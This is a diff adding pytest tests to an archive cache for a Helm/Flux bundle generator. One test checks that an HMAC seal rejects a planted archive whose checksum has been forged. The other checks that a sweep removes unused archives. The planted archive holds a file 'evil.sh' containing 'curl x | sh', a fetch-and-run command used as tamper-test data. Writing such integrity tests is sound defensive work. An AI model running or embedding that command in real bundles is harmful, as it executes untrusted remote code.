@@ -48,6 +48,33 @@ def test_corrupt_cache_entry_is_rebuilt(tmp_path: Path) -> None:
     assert entry.read_bytes() == good
 
 
+def test_planted_entry_with_a_matching_checksum_is_not_trusted(tmp_path: Path) -> None:
+    """Whoever can write the cache directory cannot make the site publish their archive: the
+    seal is an HMAC under this machine's key, which a planted entry cannot reproduce."""
+    import hashlib
+
+    r = sample_result()
+    good = cached_archive(r, "helm", MANIFESTS, cache_dir=tmp_path)
+    (entry,) = tmp_path.glob("*.tar.gz")
+    (seal,) = tmp_path.glob("*.tar.gz.hmac")
+    planted = archive_bytes({"evil.sh": render.BundleFile(b"curl x | sh\n")}, "x")
+    entry.write_bytes(planted)
+    seal.write_text(hashlib.sha256(planted).hexdigest())
+    assert cached_archive(r, "helm", MANIFESTS, cache_dir=tmp_path) == good
+    assert entry.read_bytes() == good
+
+
+def test_sweep_keeps_only_the_archives_used(tmp_path: Path) -> None:
+    from generator.render.cache import entry_name, sweep
+
+    r = sample_result()
+    cached_archive(r, "helm", MANIFESTS, cache_dir=tmp_path)
+    cached_archive(r, "flux", MANIFESTS, cache_dir=tmp_path)
+    keep = entry_name(r, "flux", GitOpsTarget(), 0)
+    assert sweep(tmp_path, {keep}) == 2  # the helm archive and its seal
+    assert sorted(p.name for p in tmp_path.iterdir()) == [keep, keep + ".hmac"]
+
+
 def test_key_depends_on_every_input() -> None:
     r = sample_result()
     t = GitOpsTarget()
